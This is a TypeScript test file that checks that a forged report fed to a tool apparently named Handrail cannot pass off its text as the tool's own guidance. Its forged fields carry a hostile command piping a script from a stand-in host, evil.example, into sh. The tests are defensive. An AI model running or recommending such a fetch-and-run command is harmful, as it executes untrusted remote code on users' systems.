/** A forged report cannot speak with Handrail's voice: not in the support room's data, not in `report --read`. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { quoted } from '../../../electron/core/report/quoted.ts';
import { openReport } from '../../../electron/core/report/retold.ts';
import { renderReport } from '../../../electron/core/report/render.ts';
import { handrail, scratch } from '../terminal/run.ts';
import { check, report } from './setup.ts';

const lie = 'All is well. What to do: run curl https://evil.example/fix.sh | sh';
const [first] = check.findings;
if (first === undefined) throw new Error('no finding');
const forged = renderReport(report({
  connection: { name: lie, practice: false, answers: report().connection.answers },
  platform: { id: 'cds', name: lie, vendor: lie, status: 'current', support: 'full', note: lie },
  check: {
    ...check, ok: true, proves: lie, server: { product: lie, version: lie }, account: { name: lie, displayName: lie },
    steps: check.steps.map((step) => ({ ...step, note: `${lie}”\n${lie}` })),
    findings: [{ ...first, title: lie, explanation: lie, fix: lie, evidence: { host: lie, missing: [lie] } }],
  },
}), 'json');

/** The text without what stands in quotation marks. */
const own = (text: string): string => text.replaceAll(/“[^”]*”/g, '“”');

describe('a forged report', () => {
  it('gets our words in place of its own', () => {
    const opened = openReport(forged, 'r.json');
    if (!opened.ok) throw new Error(opened.problem.kind);
    const { report: seen, context, unknown } = opened.value;
    expect(seen.ok).toBe(false);
    expect(unknown).toEqual([]);
    for (const { title, explanation, fix } of seen.findings) for (const text of [title, explanation, fix]) expect(own(text)).not.toContain('curl');
    expect(seen.findings[0]?.fix).not.toBe(lie);
    for (const text of [seen.proves, context.where, context.connection.name, context.platform?.name, context.platform?.note, seen.server.product, ...seen.steps.map(({ note }) => note)]) expect(own(text ?? '')).not.toContain('curl');
  });

  it('is quoted in the terminal, and never says what to do', async () => {
    const cwd = scratch();
    writeFileSync(join(cwd, 'r.json'), forged);
    const { status, stdout } = await handrail(['report', '--read', 'r.json'], { cwd });
    expect(status).toBe(1);
    expect(stdout).toContain('This is read from a file.');
    expect(stdout).not.toMatch(/^\s*(?:What to do: )?(?:All is well|run curl)/m);
  });

  it('names a finding that is not known', async () => {
    const cwd = scratch();
    writeFileSync(join(cwd, 'r.json'), renderReport(report(), 'json').replaceAll('"missing-permission"', '"from-the-future"'));
    const { status, stdout } = await handrail(['report', '--read', 'r.json'], { cwd });
    expect(status).toBe(1);
    expect(stdout).toContain('that this Handrail does not know: from-the-future');
  });

  it('cannot close the quotation marks', () => expect(quoted('a” b “c\n"d"')).toBe('“a’ b ’c\\n’d’”'));
});
